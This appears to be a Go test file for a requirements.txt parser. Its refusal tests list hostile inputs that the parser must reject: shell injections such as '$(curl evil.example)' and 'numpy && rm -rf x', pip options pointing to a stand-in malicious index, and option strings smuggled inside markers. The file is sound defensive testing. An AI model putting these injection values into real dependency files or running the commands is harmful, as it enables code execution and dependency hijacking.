package requirements

import (
	"errors"
	"strings"
	"testing"
)

func TestParse(t *testing.T) {
	tests := []struct {
		name, in, want string
		noDetect       bool
	}{
		{"bare name", "numpy", "numpy\n", false},
		{"case and pin", "NumPy==1.26.0", "numpy==1.26.0\n", false},
		{"separators", "Foo_Bar.baz", "foo-bar-baz\n", false},
		{"extras specs comment", "  Requests [Security , socks]  >= 2.0 , <3  # pinned", "requests[security,socks]<3,>=2.0\n", false},
		{"parenthesised specs", "pkg (>=1.0, !=1.5)", "pkg!=1.5,>=1.0\n", false},
		{"marker", `pyyaml; python_version >= '3.8' and (sys_platform=="linux" or os_name == 'posix')`,
			`pyyaml; python_version >= "3.8" and (sys_platform == "linux" or os_name == "posix")` + "\n", false},
		{"marker not in", `pkg ;sys_platform not  in "win32 cygwin"`, `pkg; sys_platform not in "win32 cygwin"` + "\n", false},
		{"marker extra", `pkg; extra == 'test'`, `pkg; extra == "test"` + "\n", false},
		{"sorted, blank lines and comments", "b\n\n# a comment\na # trailing\n   \n", "a\nb\n", false},
		{"hash inside a word is not a comment", "a#b", "", false},
		{"continuation", "numpy \\\n  ==1.0", "numpy==1.0\n", false},
		{"CRLF", "b==1\r\na\r\n", "a\nb==1\n", false},
		{"byte order mark", "\ufeffnumpy\r\n", "numpy\n", false},
		{"duplicates merge", "a>=1\nA<2\na[x]", "a[x]<2,>=1\n", false},
		{"same name, other marker", "a; os_name == 'nt'\na", "a\na; os_name == \"nt\"\n", false},
		{"wildcards and odd versions", "p1==1.*\np2!=1.2.*\np3~=1.4.2\np4===foo\np5==1.0+local.1\np6==1!2.0\np7==2.0RC1\np8==1.0.post1.dev2",
			"p1==1.*\np2!=1.2.*\np3~=1.4.2\np4===foo\np5==1.0+local.1\np6==1!2.0\np7==2.0rc1\np8==1.0.post1.dev2\n", false},
		{"empty extras", "pkg[]", "pkg\n", false},
		{"dash inside a marker string", `pkg; platform_release == "5.15-generic"`, `pkg; platform_release == "5.15-generic"` + "\n", false},
		{"archive name inside a marker", `pkg; extra == "x.zip"`, `pkg; extra == "x.zip"` + "\n", false},
		{"dash alone", " - ", "", true},
		{"dash line with requirements", "-\nnumpy", "numpy\n", true},
		{"empty", "", "", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			l, err := Parse(tt.in)
			if tt.want == "" && !tt.noDetect && tt.in != "" {
				if err == nil {
					t.Fatalf("Parse(%q) = %q, want an error", tt.in, l.Text())
				}
				return
			}
			if err != nil {
				t.Fatalf("Parse(%q): %v", tt.in, err)
			}
			if got := l.Text(); got != tt.want {
				t.Errorf("Parse(%q).Text() = %q, want %q", tt.in, got, tt.want)
			}
			if l.NoDetect != tt.noDetect {
				t.Errorf("NoDetect = %v, want %v", l.NoDetect, tt.noDetect)
			}
		})
	}
}

func TestParseRefuses(t *testing.T) {
	tests := []struct {
		name, in, reason string
		line             int
	}{
		{"editable", "-e git+https://example.com/x.git", "pip options", 1},
		{"index url", "numpy\n--index-url http://evil.example/simple", "pip options", 2},
		{"extra index", "--extra-index-url=http://evil.example/", "pip options", 1},
		{"nested file", "-r other.txt", "pip options", 1},
		{"constraint", "-c constraints.txt", "pip options", 1},
		{"trusted host option", "--trusted-host evil.example", "pip options", 1},
		{"url", "https://evil.example/pkg-1.0-py3-none-any.whl", "URLs", 1},
		{"vcs url", "git+https://github.com/x/y", "URLs", 1},
		{"direct reference url", "pkg @ https://evil.example/pkg.whl", "URLs", 1},
		{"direct reference", "pkg@foo", "direct references", 1},
		{"relative path", "./local/pkg", "paths", 1},
		{"absolute path", "/abs/pkg.whl", "paths", 1},
		{"home path", "~/pkg", "paths", 1},
		{"dotdot", "..", "paths", 1},
		{"archive", "pkg.tar.gz", "paths", 1},
		{"wheel file", "Pkg-1.0-py3-none-any.WHL", "paths", 1},
		{"and and", "numpy && rm -rf x", "shell metacharacters", 1},
		{"pipe", "numpy | cat", "shell metacharacters", 1},
		{"backtick", "numpy`id`", "shell metacharacters", 1},
		{"subshell", "$(curl evil.example)", "shell metacharacters", 1},
		{"dollar in marker", `pkg; python_version == "3.8$"`, "shell metacharacters", 1},
		{"semicolon command", "numpy; rm -rf x", "marker", 1},
		{"redirect", "numpy > out", "version", 1},
		{"control character", "numpy\x00", "control characters", 1},
		{"escape", "num\x1bpy", "control characters", 1},
		{"bad version", "numpy>=abc", "not a valid version", 1},
		{"wildcard with >=", "pkg>=1.*", "only allowed with", 1},
		{"empty marker", "numpy>=1.0;", "marker", 1},
		{"unknown marker variable", "numpy; foo == 'x'", "unknown variable", 1},
		{"legacy marker variable", "numpy; os.name == 'posix'", "unknown variable", 1},
		{"dangling or", "numpy; python_version >= '3.8' or", "marker", 1},
		{"two words", "num py", "unexpected", 1},
		{"unclosed extras", "numpy[", "extra", 1},
		{"no name", "==1.0", "package name", 1},
		{"line after continuation", "a\nb \\\n  c", "unexpected", 2},
		// A line that ends like an archive before its marker is a file to
		// pip, whatever part of it the archive name is.
		{"wheel as local version", "foo==1.0+x.whl", "paths", 1},
		{"tarball as arbitrary version", "foo===x.tar.gz", "paths", 1},
		{"zip after extras", "foo[a]==1+a.zip", "paths", 1},
		{"archive before a marker", "foo==1+x.ZIP ; python_version >= '3'", "paths", 1},
		{"archive once normalised", "foo (==1.0+x.whl)", "paths", 1},
		// pip splits a line on spaces and reads " -x" as its option -x.
		{"option in a marker string", `foo; os_name == "a --index-url=http:evil.example"`, `"-" after a space`, 1},
		{"short option in a marker string", `foo; extra == 'x -r'`, `"-" after a space`, 1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			l, err := Parse(tt.in)
			var pe *Error
			if !errors.As(err, &pe) {
				t.Fatalf("Parse(%q) = %q, %v; want *Error", tt.in, l.Text(), err)
			}
			if !strings.Contains(pe.Reason, tt.reason) {
				t.Errorf("reason %q lacks %q", pe.Reason, tt.reason)
			}
			if pe.Line != tt.line {
				t.Errorf("line %d, want %d (%v)", pe.Line, tt.line, err)
			}
		})
	}
}

func TestParseBounds(t *testing.T) {
	many := strings.Repeat("pkg\n", MaxRequirements) + "pkg\n"
	if _, err := Parse(strings.Repeat("pkg\n", MaxRequirements)); err != nil {
		t.Errorf("%d requirements: %v", MaxRequirements, err)
	}
	if _, err := Parse(many); err == nil || !strings.Contains(err.Error(), "more than") {
		t.Errorf("%d requirements: err = %v", MaxRequirements+1, err)
	}
	long := "pkg==1.0; python_version >= \"" + strings.Repeat("3", MaxLineBytes) + "\""
	if _, err := Parse(long); err == nil || !strings.Contains(err.Error(), "longer than") {
		t.Errorf("long line: err = %v", err)
	}
	_, err := Parse("-e " + strings.Repeat("x", 200))
	if err == nil || len(err.Error()) > 400 {
		t.Errorf("message not shortened: %v", err)
	}
}

func TestCanonical(t *testing.T) {
	for in, want := range map[string]string{
		"Django": "django", "Foo_Bar": "foo-bar", "a.b-c__d": "a-b-c-d", "PyYAML": "pyyaml",
		"zope.interface": "zope-interface", "x": "x",
	} {
		if got := Canonical(in); got != want {
			t.Errorf("Canonical(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestKey(t *testing.T) {
	parse := func(s string) List {
		t.Helper()
		l, err := Parse(s)
		if err != nil {
			t.Fatal(err)
		}
		return l
	}
	ix := Index{URL: "http://127.0.0.1:1/simple/"}
	base := Key("3.12.1", parse("numpy==1.26\nrequests[socks]>=2"), ix)
	if !ValidKey(base) || len(base) != KeyLen {
		t.Fatalf("key %q: not a valid key", base)
	}
	same := []string{
		"Requests [SOCKS] >= 2\n# comment\nNumPy == 1.26",
		"-\nrequests[socks]>=2   # x\n\nnumpy==1.26\n",
		"requests[socks]>=2\r\nnumpy\\\n==1.26",
	}
	for _, s := range same {
		if k := Key("3.12.1", parse(s), ix); k != base {
			t.Errorf("Key of %q = %s, want %s", s, k, base)
		}
	}
	other := map[string]string{
		"python":  Key("3.12.2", parse("numpy==1.26\nrequests[socks]>=2"), ix),
		"pin":     Key("3.12.1", parse("numpy==1.25\nrequests[socks]>=2"), ix),
		"extras":  Key("3.12.1", parse("numpy==1.26\nrequests>=2"), ix),
		"index":   Key("3.12.1", parse("numpy==1.26\nrequests[socks]>=2"), Index{URL: "http://127.0.0.1:2/simple/"}),
		"links":   Key("3.12.1", parse("numpy==1.26\nrequests[socks]>=2"), Index{URL: ix.URL, FindLinks: []string{"/w"}}),
		"trusted": Key("3.12.1", parse("numpy==1.26\nrequests[socks]>=2"), Index{URL: ix.URL, TrustedHosts: []string{"h"}}),
		"sdists":  Key("3.12.1", parse("numpy==1.26\nrequests[socks]>=2"), Index{URL: ix.URL, SourceBuilds: true}),
	}
	for what, k := range other {
		if k == base {
			t.Errorf("changing the %s keeps the key", what)
		}
	}
	// Keys name layers on disk: a change of the key function must bump
	// keyVersion, which this golden value notices.
	if got := Key("3.12.1", parse("numpy"), Index{}); got != goldenKey {
		t.Errorf("Key(3.12.1, numpy) = %s, want %s: bump keyVersion and update this value", got, goldenKey)
	}
	for _, bad := range []string{"", "ABCDEF", strings.Repeat("a", 31), strings.Repeat("a", 33), "../" + strings.Repeat("a", 29)} {
		if ValidKey(bad) {
			t.Errorf("ValidKey(%q) = true", bad)
		}
	}
}

const goldenKey = "fccee7d34bd813ad1f474758b1ea45d6"

// TestParseDoesNotCompile checks that the version pattern is compiled
// once, not by every Parse with specifiers.
func TestParseDoesNotCompile(t *testing.T) {
	parse := func() {
		if _, err := Parse("a==1.0\nb>=2.0rc1,<3"); err != nil {
			t.Fatal(err)
		}
	}
	parse()
	// A compilation of the pattern alone makes hundreds of allocations.
	if n := testing.AllocsPerRun(20, parse); n > 60 {
		t.Errorf("Parse made %v allocations, want the pattern compiled once", n)
	}
}
